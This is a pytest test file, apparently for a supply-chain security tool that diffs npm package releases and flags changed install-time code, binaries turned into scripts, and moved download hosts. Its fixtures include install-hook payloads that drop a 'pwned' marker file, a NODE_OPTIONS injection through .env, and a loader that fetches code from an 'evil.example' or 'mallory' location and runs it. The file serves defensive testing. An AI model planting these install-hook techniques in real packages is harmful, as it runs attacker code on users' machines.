"""Release diff, second generation (issue 9): binaries changed vs added, the install-code closure,
code vs data, runtime injection. Each bypass named in the issue is a test here."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from gatekeeper._internal.tarball import read_package
from gatekeeper.diffing import DiffResult, diff_packages
from gatekeeper.trust.policy import Policy, parse_policy
from tests._support.tarballs import make_tgz

ELF_X64 = b"\x7fELF\x02\x01\x01" + bytes(11) + (62).to_bytes(2, "little") + bytes(100)
ELF_ARM64 = b"\x7fELF\x02\x01\x01" + bytes(11) + (183).to_bytes(2, "little") + bytes(100)


def manifest(**fields: Any) -> str:
    return json.dumps({"name": "demo", "version": "1.0.0", **fields}, indent=2) + "\n"


def pair(
    tmp: Path, base: dict[str, str | bytes], changes: dict[str, str | bytes | None], policy: Policy | str | None = None
) -> DiffResult:
    """Diff `base` files against them with `changes` applied (None removes) and the version bumped."""
    cand = {**base}
    for k, v in changes.items():
        if v is None:
            cand.pop(k, None)
        else:
            cand[k] = v
    if "package.json" not in changes:
        cand["package.json"] = str(base["package.json"]).replace('"1.0.0"', '"1.0.1"', 1)
    b = make_tgz(base, tmp / "base.tgz")
    c = make_tgz(cand, tmp / "cand.tgz")
    pol = parse_policy(policy) if isinstance(policy, str) else policy or Policy()
    limits = pol.diff.limits
    return diff_packages(read_package(b, limits), read_package(c, limits), pol)


def rules(result: DiffResult) -> list[str]:
    return [f.rule for f in result.findings]


# ------------------------------------------------------------------ item 5: binaries


def test_binary_rebuilt_at_the_same_path_is_changed_not_added(tmp_path: Path) -> None:
    """The bypass of meaning: a prebuilt binary rebuilt in place was reported as a new binary dropped in."""
    base = {"package.json": manifest(), "prebuilds/linux-x64/addon.node": ELF_X64}
    [f] = pair(tmp_path, base, {"prebuilds/linux-x64/addon.node": ELF_X64 + b"rebuilt"}).findings
    assert f.rule == "executable-binary-changed" and f.blocks and "same path" in f.message
    assert f.file == "prebuilds/linux-x64/addon.node"


def test_binary_of_another_architecture_or_over_a_non_binary_is_added(tmp_path: Path) -> None:
    base = {"package.json": manifest(), "bin/tool": ELF_X64, "lib/data.bin": b"\0\1\2"}
    result = pair(tmp_path, base, {"bin/tool": ELF_ARM64, "lib/data.bin": ELF_X64})
    assert rules(result) == ["executable-binary-added", "executable-binary-added"]
    assert "replacing ELF machine 62" in result.findings[0].message


def test_binary_changed_is_approvable_by_content_or_native_glob(tmp_path: Path) -> None:
    base = {"package.json": manifest(), "addon.node": ELF_X64}
    digest = hashlib.sha256(ELF_X64 + b"x").hexdigest()
    result = pair(
        tmp_path, base, {"addon.node": ELF_X64 + b"x"}, f"approve: {{files: [{{path: addon.node, sha256: {digest}}}]}}"
    )
    assert rules(result) == ["approved-change"]
    glob = pair(tmp_path, base, {"addon.node": ELF_X64 + b"y"}, "approve: {files: [{path: '*.node', native: true}]}")
    assert rules(glob) == ["approved-change"]
    other = pair(
        tmp_path, base, {"addon.node": ELF_X64 + b"y"}, f"approve: {{files: [{{path: addon.node, sha256: {digest}}}]}}"
    )
    assert rules(other) == ["executable-binary-changed"]


# ------------------------------------------------------------------ item 3: the install-code closure


def with_install(command: str, files: dict[str, str | bytes], **fields: Any) -> dict[str, str | bytes]:
    return {"package.json": manifest(scripts={"install": command}, **fields), **files}


@pytest.mark.parametrize(
    ("command", "files", "changed"),
    [
        ("bun run x.js", {"x.js": "a\n"}, "x.js"),
        ("bun x.js", {"x.js": "a\n"}, "x.js"),
        ("deno run -A setup.ts", {"setup.ts": "a\n"}, "setup.ts"),
        ("npx tsx scripts/x.ts", {"scripts/x.ts": "a\n"}, "scripts/x.ts"),
        ("npx --yes node scripts/x.js", {"scripts/x.js": "a\n"}, "scripts/x.js"),
        ("cd scripts && node x.js", {"scripts/x.js": "a\n", "x.js": "root\n"}, "scripts/x.js"),
        (
            "npm --prefix ./scripts run setup",
            {"scripts/package.json": '{"scripts":{"setup":"node s.js"}}', "scripts/s.js": "a\n"},
            "scripts/s.js",
        ),
        (
            "npm run setup --prefix=scripts",
            {"scripts/package.json": '{"scripts":{"setup":"node s.js"}}', "scripts/s.js": "a\n"},
            "scripts/s.js",
        ),
        ("node --require=./h.js x.js", {"h.js": "a\n", "x.js": "b\n"}, "h.js"),
        ("node --import=./h.mjs x.js", {"h.mjs": "a\n", "x.js": "b\n"}, "h.mjs"),
        ("node --eval=\"require('./x')\"", {"x.js": "a\n"}, "x.js"),
        (
            "sh install.sh",
            {"install.sh": "#!/bin/sh\nset -e\nnode tools/fetch.js\n", "tools/fetch.js": "a\n"},
            "tools/fetch.js",
        ),
        (
            "./install.sh",
            {"install.sh": '#!/usr/bin/env bash\ncd "$(dirname "$0")"\nnode run.js\n', "run.js": "a\n"},
            "run.js",
        ),
        ("node i.js", {"i.js": "require(path.join(__dirname, 'lib', 'x'))\n", "lib/x.js": "a\n"}, "lib/x.js"),
        (
            "node i.js",
            {"i.js": "const {fork} = require('child_process');\nfork(require.resolve('./w'))\n", "w.js": "a\n"},
            "w.js",
        ),
        ("node i.js", {"i.js": "spawn(process.execPath, [path.join(__dirname, 'w.js')])\n", "w.js": "a\n"}, "w.js"),
        ("node i.js", {"i.js": "new Worker('./w.js')\n", "w.js": "a\n"}, "w.js"),
        (
            "node-gyp rebuild",
            {"binding.gyp": "{'variables': {'x': '<!(node tools/gen.js)'}}", "tools/gen.js": "a\n"},
            "tools/gen.js",
        ),
        (
            "node-gyp rebuild",
            {
                "binding.gyp": "{'targets': [{'actions': [{'action': ['node', 'tools/act.js', '<@(_inputs)']}]}]}",
                "tools/act.js": "a\n",
            },
            "tools/act.js",
        ),
        ("node-gyp rebuild", {"binding.gyp": "{'includes': ['common.gypi']}", "common.gypi": "{}"}, "common.gypi"),
        (
            "node-gyp rebuild",
            {
                "binding.gyp": "{'targets': [{'target_name': 'a', 'dependencies': ['deps/x.gyp:x']}]}",
                "deps/x.gyp": "{'targets': [{'actions': [{'action': ['node', 'gen.js']}]}]}",
                "deps/gen.js": "a\n",
            },
            "deps/gen.js",
        ),
        ("node i.js", {"i.js": "require('child_process').execFile(process.execPath, ['w.js'])\n", "w.js": "1"}, "w.js"),
        (
            "node i.js",
            {
                "i.js": "const { spawnSync } = require('child_process')\nconst o = { encoding: 'utf8', shell: true }\n"
                "spawnSync('sysctl x', o)\nspawnSync('node w.js', { ...o, stdio: 'inherit' })\n",
                "w.js": "1",
            },
            "w.js",
        ),
        (
            "node i.js",
            {"i.js": "const cp = require('child_process')\ncp.spawn(process.execPath, ['./w.js'])\n", "w.js": "1"},
            "w.js",
        ),
        ("cd native && node-gyp rebuild", {"native/binding.gyp": "{'targets': []}"}, "native/binding.gyp"),
        ("node-gyp rebuild --directory=native", {"native/binding.gyp": "{'targets': []}"}, "native/binding.gyp"),
        ("node Install.js", {"install.js": "a\n"}, "install.js"),  # a case-insensitive file system finds it
        ("node caf\u00e9.js", {"cafe\u0301.js": "a\n"}, "cafe\u0301.js"),  # NFC in the command, NFD in the tarball
        ("mytool setup", {"cli.js": "#!/usr/bin/env node\n"}, "cli.js"),
    ],
)
def test_install_commands_the_first_generation_missed(
    tmp_path: Path, command: str, files: dict[str, str], changed: str
) -> None:
    """Each command form of the issue: the file it runs changed, with the install command unchanged."""
    base = with_install(command, files, bin={"mytool": "cli.js"})
    result = pair(tmp_path, base, {changed: str(files[changed]) + "\n// changed\n"})
    assert rules(result) == ["install-script-code-changed"], result.findings
    assert result.findings[0].file == changed


def test_unrelated_changes_stay_quiet(tmp_path: Path) -> None:
    base = with_install("cd scripts && node x.js", {"scripts/x.js": "a\n", "lib/index.js": "b\n"})
    assert pair(tmp_path, base, {"lib/index.js": "c\n"}).findings == []


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("node i.js", "const name = process.platform;\nrequire('./lib/' + name)\n"),
        ("node i.js", "require(`./lib/${process.arch}.js`)\n"),
        ("node i.js", "const target = pick();\nrequire(target)\n"),
        ("node i.js", "require(`demo/lib/${process.platform}`)\n"),  # can name the package itself
        ("node i.js", "const load = require;\nload('./lib/linux')\n"),
        ("node $SCRIPT", ""),
        ('node i.js && sh -c "$(cat cmd.txt)"', ""),
    ],
)
def test_unresolvable_install_code_counts_every_changed_executable_file(
    tmp_path: Path, command: str, code: str
) -> None:
    base = with_install(
        command, {"i.js": code or "1\n", "lib/linux.js": "a\n", "README.md": "r\n", "data/x.txt": "d\n"}
    )
    result = pair(tmp_path, base, {"lib/linux.js": "evil\n", "README.md": "r2\n", "data/x.txt": "d2\n"})
    assert [(f.rule, f.file) for f in result.findings] == [("install-script-code-changed", "lib/linux.js")]
    assert "cannot be followed statically" in result.findings[0].message


def test_shell_script_commands_are_followed_with_its_variables_failing_closed(tmp_path: Path) -> None:
    base = with_install(
        "bash scripts/setup.sh", {"scripts/setup.sh": "DIR=x\nnode $DIR/run.js\n", "x/run.js": "a\n", "z.js": "1\n"}
    )
    result = pair(tmp_path, base, {"z.js": "2\n"})
    assert rules(result) == ["install-script-code-changed"] and "cannot be followed" in result.findings[0].message


# ------------------------------------------------------------------ item 4: code versus data


def test_data_an_install_script_reads_warns_instead_of_blocking(tmp_path: Path) -> None:
    """The noisy block: a checksum list read by the install script was called install code."""
    install = "const sums = fs.readFileSync(path.join(__dirname, 'checksums.txt'), 'utf8');\n"
    base = with_install(
        "node install.js", {"install.js": install, "checksums.txt": "abc  https://dl.example.com/v1.tgz\n"}
    )
    result = pair(tmp_path, base, {"checksums.txt": "def  https://dl.example.com/v2.tgz\n"})
    [f] = result.findings
    assert f.rule == "install-data-changed" and not f.blocks and f.file == "checksums.txt"
    moved = pair(tmp_path, base, {"checksums.txt": "def  https://dl.evil.example/v2.tgz\n"})
    [g] = moved.findings
    assert g.rule == "install-download-changed" and g.blocks and "dl.evil.example" in g.message


def test_json_required_by_install_code_is_data(tmp_path: Path) -> None:
    base = with_install(
        "node install.js", {"install.js": "const c = require('./config.json');\n", "config.json": '{"v": 1}'}
    )
    assert rules(pair(tmp_path, base, {"config.json": '{"v": 2}'})) == ["install-data-changed"]


def test_installer_config_download_host_moved_blocks(tmp_path: Path) -> None:
    """The bypass: node-pre-gyp's `binary.host` moved to another host with no other change."""
    binary = {
        "module_name": "x",
        "module_path": "./lib/binding",
        "host": "https://github.com/acme/x/releases/download/",
    }
    base = {"package.json": manifest(scripts={"install": "node-pre-gyp install --fallback-to-build"}, binary=binary)}
    moved = {**binary, "host": "https://downloads.evil.example/"}
    result = pair(
        tmp_path,
        base,
        {
            "package.json": manifest(
                version="1.0.1", scripts={"install": "node-pre-gyp install --fallback-to-build"}, binary=moved
            )
        },
    )
    [f] = result.findings
    assert f.rule == "install-download-changed" and f.blocks and "downloads.evil.example" in f.message and f.line
    renamed = {**binary, "module_name": "y"}
    result = pair(
        tmp_path,
        base,
        {
            "package.json": manifest(
                version="1.0.1", scripts={"install": "node-pre-gyp install --fallback-to-build"}, binary=renamed
            )
        },
    )
    assert rules(result) == ["install-data-changed"]


# ------------------------------------------------------------------ issue 22: loaders read from the syntax tree

_PWN = "require('fs').writeFileSync(require('path').join(process.env.INIT_CWD, 'pwned'), '')\n"
_OK = "module.exports = 1\n"
#: WebAssembly modules: one importing `env.pwn` and calling it from its start function, one doing nothing.
_WASM_HEAD = b"\0asm\1\0\0\0" + b"\x01\x04\x01\x60\x00\x00" + b"\x02\x0b\x01\x03env\x03pwn\x00\x00"
_WASM_PWN, _WASM_OK = _WASM_HEAD + b"\x08\x01\x00", _WASM_HEAD


def _shape(install: str, files: dict[str, str | bytes], *, script: str = "node install.js", **fields: Any):
    base = {"package.json": manifest(scripts={"postinstall": script}, **fields), **files}
    if install:
        base["install.js" if "import.meta" not in install else "install.mjs"] = install
    base.setdefault("lib/other.js", _OK)
    return base


#: (base files, the file whose change runs at install, the candidate's payload, what the finding names)
SHAPES: dict[str, tuple[dict[str, str | bytes], str, str | bytes, str]] = {
    "imports": (_shape("require('#helper')\n", {"lib/h.js": _OK}, imports={"#helper": "./lib/h.js"}), "lib/h.js",
                _PWN, "require('#helper')"),
    "exports-self-reference": (
        _shape("require('demo/helper')\n", {"lib/h.js": _OK, "index.js": _OK},
               exports={".": "./index.js", "./helper": {"require": "./lib/h.js", "default": "./lib/h.mjs"}}),
        "lib/h.js", _PWN, "require('demo/helper')"),
    "execSync-node": (_shape("require('child_process').execSync('node lib/h.js')\n", {"lib/h.js": _OK}), "lib/h.js",
                      _PWN, "execSync('node lib/h.js')"),
    "spawnSync-sh": (_shape("require('child_process').spawnSync('sh', ['x.sh'])\n", {"x.sh": "true\n"}), "x.sh",
                     "touch \"$INIT_CWD/pwned\"\n", "spawnSync('sh', ['x.sh'])"),
    "execFileSync-bash-dirname": (
        _shape("const { execFileSync } = require('child_process')\nexecFileSync('bash', [__dirname + '/x.sh'])\n",
               {"x.sh": "true\n"}), "x.sh", "touch \"$INIT_CWD/pwned\"\n", "execFileSync('bash'"),
    "require-aliased": (_shape("const load = require\nload('./lib/h.js')\n", {"lib/h.js": _OK}), "lib/h.js", _PWN,
                        "`load = require` `require` is used as a value"),
    "createRequire": (
        _shape("import { createRequire } from 'node:module'\ncreateRequire(import.meta.url)('./lib/h.cjs')\n",
               {"lib/h.cjs": _OK}, script="node install.mjs"), "lib/h.cjs", _PWN, "createRequire(import.meta.url)"),
    "vm-runInThisContext": (
        _shape("const vm = require('vm')\nconst { readFileSync } = require('fs')\n"
               "vm.runInThisContext(readFileSync(__dirname + '/lib/h.txt', 'utf8'))\n",
               {"lib/h.txt": "1\n"}), "lib/h.txt",
        "process.getBuiltinModule('fs').writeFileSync(process.env.INIT_CWD + '/pwned', '')\n",
        "vm.runInThisContext"),
    "WebAssembly-instantiate": (
        _shape("const fs = require('fs')\nconst pwn = () => " + _PWN.strip() + "\n"
               "WebAssembly.instantiate(fs.readFileSync(__dirname + '/lib/h.wasm'), { env: { pwn } })\n",
               {"lib/h.wasm": _WASM_OK}), "lib/h.wasm", _WASM_PWN, "WebAssembly.instantiate"),
    "env-file-NODE_OPTIONS": (
        _shape(_OK, {".env": "A=1\n", "lib/evil.js": _PWN}, script="node --env-file=.env install.js"),
        ".env", "A=1\nNODE_OPTIONS=--require ./lib/evil.js\n", "--env-file"),
    "sh-c-and": (_shape("", {"lib/h.js": _OK}, script="sh -c 'echo start && node lib/h.js'"), "lib/h.js", _PWN,
                 "sh -c"),
    "require-dotdot": (_shape("require('./lib/setup')\n", {"lib/setup.js": "require('..')\n", "index.js": _OK},
                              main="index.js"), "index.js", _PWN, "require('..')"),
}  # fmt: skip


def _consumer_install(files: dict[str, str | bytes], dest: Path) -> Path:
    """`npm install` of the release from a file, scripts on, as a consumer runs it: the consumer folder."""
    return _consumer_install_all({"demo": files}, dest, {})


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_an_unchanged_install_script_loading_a_changed_file_blocks(shape: str, tmp_path: Path) -> None:
    base, target, payload, named = SHAPES[shape]
    candidate = {**base, target: payload, "package.json": str(base["package.json"]).replace('"1.0.0"', '"1.0.1"')}
    assert not (_consumer_install(base, tmp_path / "base") / "pwned").exists(), "premise: the base is harmless"
    assert (_consumer_install(candidate, tmp_path / "cand") / "pwned").exists(), "premise: npm install runs it"
    result = pair(tmp_path, base, {target: payload})
    blocking = [f for f in result.findings if f.blocks]
    assert [(f.rule, f.file) for f in blocking] == [("install-script-code-changed", target)], result.findings
    assert named in blocking[0].message, blocking[0].message


@pytest.mark.parametrize("shape", sorted(set(SHAPES) - {"require-aliased"}))
def test_the_same_shapes_with_an_unchanged_target_stay_quiet(shape: str, tmp_path: Path) -> None:
    base, _, _, _ = SHAPES[shape]
    result = pair(tmp_path, base, {"lib/other.js": "module.exports = 2\n"})
    assert result.findings == [], result.findings


def test_a_computed_dependency_name_is_not_package_code(tmp_path: Path) -> None:
    """sharp's lib/libvips.js: `require(`@img/sharp-libvips-dev-${buildPlatformArch()}/include`)`."""
    install = "require(`@img/sharp-libvips-${process.platform}/x`)\nrequire('./lib/a')\n"
    base = _shape(install, {"lib/a.js": _OK})
    assert pair(tmp_path, base, {"lib/other.js": "module.exports = 2\n"}).findings == []


def test_nodemon_reading_its_package_json_by_a_computed_path_is_data(tmp_path: Path) -> None:
    """nodemon's postinstall: `require(__dirname + '/../package.json')` is a static path to data."""
    install = "var pkg = require(__dirname + '/../package.json');\nconsole.log(pkg.version)\n"
    base = _shape("", {"bin/postinstall.js": install, "lib/monitor/run.js": "a\n"}, script="node bin/postinstall.js")
    assert pair(tmp_path, base, {"lib/monitor/run.js": "b\n"}).findings == []


# ------------------------------------------------------------------ issue 22: a binary that becomes a script

#: A real native executable of this machine that does nothing (the baseline's binary runs and is harmless).
_TRUE = Path("/bin/true")
_SCRIPT = '#!/bin/sh\ntouch "$INIT_CWD/pwned"\n'


def _consumer_install_all(packages: dict[str, dict[str, str | bytes]], dest: Path, modes: dict[str, int]) -> Path:
    """`npm install` of several packages from files (scripts on), as one consumer's dependencies."""
    import os
    import shutil
    import subprocess

    npm = shutil.which("npm")
    assert npm, "npm is required for the tests"
    dest.mkdir()
    deps = {}
    for name, files in packages.items():
        make_tgz(files, dest / f"{name}.tgz", modes=modes)
        deps[name] = f"file:../{name}.tgz"
    consumer = dest / "consumer"
    consumer.mkdir()
    (consumer / "package.json").write_text(json.dumps({"name": "consumer", "version": "1.0.0", "dependencies": deps}))
    env = {k: v for k, v in os.environ.items() if k != "NODE_OPTIONS"}
    env["npm_config_cache"] = str(dest / "npm-cache")
    proc = subprocess.run(
        [npm, "install", "--no-audit", "--no-fund", "--registry", "http://127.0.0.1:9/"],
        cwd=consumer,
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    return consumer


#: who runs demo's bin/tool: (demo's extra manifest fields, another package's postinstall or None, expected rule)
_RUNNERS = {
    "bin-link-run-by-another-package": (
        {"bin": {"demo-tool": "bin/tool"}}, "demo-tool", "executable-binary-became-script"),
    "path-run-by-another-package": (
        {},
        "node -e \"require('child_process').execFileSync(require.resolve('demo/bin/tool'))\"",
        "executable-binary-became-script",
    ),
    "own-install-script": ({"scripts": {"install": "./bin/tool"}}, None, "install-script-code-changed"),
}  # fmt: skip


@pytest.mark.parametrize("runner", sorted(_RUNNERS))
def test_a_native_executable_that_becomes_a_script_blocks(runner: str, tmp_path: Path) -> None:
    """The miss: bin/tool shipped as a native executable for many releases becomes a shell script; whatever ran
    the binary (a bin link another package's install script calls, a path it executes, this package's own
    install script) now runs the script. Before: no finding at all when another package runs it."""
    fields, app_script, expected = _RUNNERS[runner]
    base = {"package.json": manifest(**fields), "bin/tool": _TRUE.read_bytes(), "index.js": _OK}
    cand = {**base, "package.json": manifest(version="1.0.1", **fields), "bin/tool": _SCRIPT}
    modes = {"bin/tool": 0o755}
    others = {}
    if app_script:
        others["app"] = {
            "package.json": json.dumps({"name": "app", "version": "1.0.0", "scripts": {"postinstall": app_script}})
        }
    assert not (_consumer_install_all({"demo": base, **others}, tmp_path / "b", modes) / "pwned").exists()
    assert (_consumer_install_all({"demo": cand, **others}, tmp_path / "c", modes) / "pwned").exists(), "premise"
    b, c = make_tgz(base, tmp_path / "base.tgz", modes=modes), make_tgz(cand, tmp_path / "cand.tgz", modes=modes)
    limits = Policy().diff.limits
    result = diff_packages(read_package(b, limits), read_package(c, limits), Policy())
    blocking = [(f.rule, f.file) for f in result.findings if f.blocks]
    assert blocking == [(expected, "bin/tool")], result.findings
    if expected == "executable-binary-became-script":
        assert "now runs this file" in result.findings[0].message and "#!/bin/sh" in result.findings[0].message


def test_a_native_executable_rebuilt_or_approved_is_not_a_script(tmp_path: Path) -> None:
    base = {"package.json": manifest(bin={"demo-tool": "bin/tool"}), "bin/tool": ELF_X64}
    assert rules(pair(tmp_path, base, {"bin/tool": ELF_X64 + b"x"})) == ["executable-binary-changed"]
    digest = hashlib.sha256(_SCRIPT.encode()).hexdigest()
    policy = f"approve:\n  files:\n    - path: bin/tool\n      sha256: {digest}\n"
    assert rules(pair(tmp_path, base, {"bin/tool": _SCRIPT}, policy)) == ["approved-change"]
    # a script that stays a script is the install-code closure's business, not this rule's
    base = {"package.json": manifest(bin={"demo-tool": "bin/tool"}), "bin/tool": "#!/bin/sh\ntrue\n"}
    assert "executable-binary-became-script" not in rules(pair(tmp_path, base, {"bin/tool": _SCRIPT}))


@pytest.mark.parametrize(
    "code",
    [
        "const conf = require(process.env.CONF_DIR + '/settings.json')\n",  # a computed `.json`: data
        "const c = require(path.join(process.env.INIT_CWD, 'app.config'))\n",  # the consumer's folder
    ],
)
def test_a_computed_require_of_data_or_the_consumers_folder_is_not_a_fail_closed(tmp_path: Path, code: str) -> None:
    """The noisy class of the issue (held already; this pins it): a non-literal `require` of a `.json`, or of a
    path under INIT_CWD, cannot load package code, so it does not make every changed code file install code."""
    base = with_install("node i.js", {"i.js": code, "lib/a.js": "a\n", "types/a.d.ts": "export {}\n"})
    assert pair(tmp_path, base, {"lib/a.js": "b\n", "types/a.d.ts": "export const x: 1\n"}).findings == []


def test_type_declarations_are_not_executable_under_a_fail_closed(tmp_path: Path) -> None:
    base = with_install("node i.js", {"i.js": "require(pick())\n", "lib/a.js": "a\n", "types/a.d.ts": "export {}\n"})
    result = pair(tmp_path, base, {"lib/a.js": "b\n", "types/a.d.ts": "export const x: 1\n"})
    assert [(f.rule, f.file) for f in result.findings] == [("install-script-code-changed", "lib/a.js")]


# ------------------------------------------------------------------ issue 22: installer download config by full URL

#: A node-pre-gyp-shaped installer: it composes `binary.host` + `remote_path` + `package_name` (with
#: `{version}`) as node-pre-gyp does, downloads that file and runs it.
_FETCH_AND_RUN = """const pkg = require('./package.json')
const b = pkg.binary
const url = (b.host + b.remote_path + '/' + b.package_name).replace(/\\{version\\}/g, pkg.version)
require('http').get(url, (res) => {
  let body = ''
  res.on('data', (d) => { body += d })
  res.on('end', () => { if (res.statusCode === 200) new Function('require', body)(require) })
})
"""


@pytest.fixture
def download_host():
    """A loopback download host: the owner's release folder (harmless) and another path on it (a payload)."""
    import http.server
    import threading

    files = {
        "/acme/x/releases/download/v1.0.0/x.js": b"1\n",
        "/acme/x/releases/download/v1.0.1/x.js": b"1\n",
        "/mallory/x/releases/download/v1.0.1/x.js": _PWN.encode(),
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = files.get(self.path)
            self.send_response(200 if body else 404)
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("field", ["remote_path", "host"])
def test_installer_download_moved_to_another_path_on_the_same_host_blocks(
    field: str, download_host: str, tmp_path: Path
) -> None:
    """The miss: `binary.remote_path` (or the path inside `host`) moved to another repository on the same host was
    only `install-data-changed` (a warning), as the host compared equal; a consumer's install runs what the new
    path serves. The version moving inside the path stays at the same location (warns as data)."""
    binary = {"module_name": "x", "host": download_host, "remote_path": "acme/x/releases/download/v{version}",
              "package_name": "x.js"}  # fmt: skip
    moved = dict(binary)
    if field == "remote_path":
        moved["remote_path"] = "mallory/x/releases/download/v{version}"
    else:
        moved["host"], moved["remote_path"] = download_host + "mallory/", "x/releases/download/v{version}"
    fields = {"scripts": {"install": "node install.js"}}
    base = {"package.json": manifest(**fields, binary=binary), "install.js": _FETCH_AND_RUN}
    cand = {**base, "package.json": manifest(version="1.0.1", **fields, binary=moved)}
    assert not (_consumer_install(base, tmp_path / "b") / "pwned").exists(), "premise: the base is harmless"
    assert (_consumer_install(cand, tmp_path / "c") / "pwned").exists(), "premise: npm install runs the payload"
    result = pair(tmp_path, base, {"package.json": cand["package.json"]})
    [f] = result.findings
    assert f.rule == "install-download-changed" and f.blocks and "mallory" in f.message, result.findings
    # the same release with the version inside the path bumped literally, or a field outside the URL renamed
    literal = {**binary, "remote_path": "acme/x/releases/download/v1.0.0"}
    same = {**literal, "remote_path": "acme/x/releases/download/v1.0.1", "module_name": "y"}
    base = {**base, "package.json": manifest(**fields, binary=literal)}
    quiet = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, binary=same)})
    assert rules(quiet) == ["install-data-changed"], quiet.findings


def test_installer_module_path_and_prebuild_install_repository_are_download_locations(tmp_path: Path) -> None:
    """node-pre-gyp's `module_path` is where the downloaded binary lands and is loaded from; prebuild-install
    downloads from the GitHub releases of package.json `repository`."""
    binary = {"module_name": "x", "module_path": "./lib/binding/{node_abi}", "host": "https://github.com/acme/x/"}
    fields = {"scripts": {"install": "node-pre-gyp install"}}
    base = {"package.json": manifest(**fields, binary=binary)}
    moved = {"package.json": manifest(version="1.0.1", **fields, binary={**binary, "module_path": "./lib/"})}
    [f] = pair(tmp_path, base, moved).findings
    assert f.rule == "install-download-changed" and "file:///lib" in f.message
    fields = {"scripts": {"install": "prebuild-install || node-gyp rebuild"}}
    repo = {"type": "git", "url": "git+https://github.com/acme/x.git"}
    base = {"package.json": manifest(**fields, repository=repo), "binding.gyp": "{'targets': []}"}
    other = {**repo, "url": "git+https://github.com/mallory/x.git"}
    [g] = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, repository=other)}).findings
    assert g.rule == "install-download-changed" and "mallory" in g.message
    # without prebuild-install the repository is metadata
    base = {"package.json": manifest(scripts={"install": "node i.js"}, repository=repo), "i.js": "1\n"}
    assert pair(tmp_path, base, {"package.json": manifest(version="1.0.1", scripts={"install": "node i.js"},
                                                          repository=other)}).findings == []  # fmt: skip


@pytest.mark.parametrize(
    ("before", "after", "moved"),
    [
        ("https://gl.example/api/v4/projects/12345/x.tgz", "https://gl.example/api/v4/projects/66666/x.tgz", True),
        ("https://dl.example/acme/x/v1.2.3/x-1.2.3.tgz", "https://dl.example/acme/x/v1.2.4/x-1.2.4.tgz", False),
        ("https://dl.example/acme/x/v1.2.3/x.tgz", "https://dl.example/mallory/x/v1.2.3/x.tgz", True),
        ("https://dl.example/acme/x.tgz", "https://dl.example/acme/../mallory/x.tgz", True),
    ],
)  # fmt: skip
def test_download_urls_in_install_data_compare_by_location(
    tmp_path: Path, before: str, after: str, moved: bool
) -> None:
    """A version moving inside the path stays at the same location; any other path change on the same host is a
    move (a bare number is an id, not a version)."""
    install = "const sums = fs.readFileSync(path.join(__dirname, 'checksums.txt'), 'utf8');\n"
    base = with_install("node install.js", {"install.js": install, "checksums.txt": f"abc  {before}\n"})
    [f] = pair(tmp_path, base, {"checksums.txt": f"def  {after}\n"}).findings
    assert f.rule == ("install-download-changed" if moved else "install-data-changed"), f.message
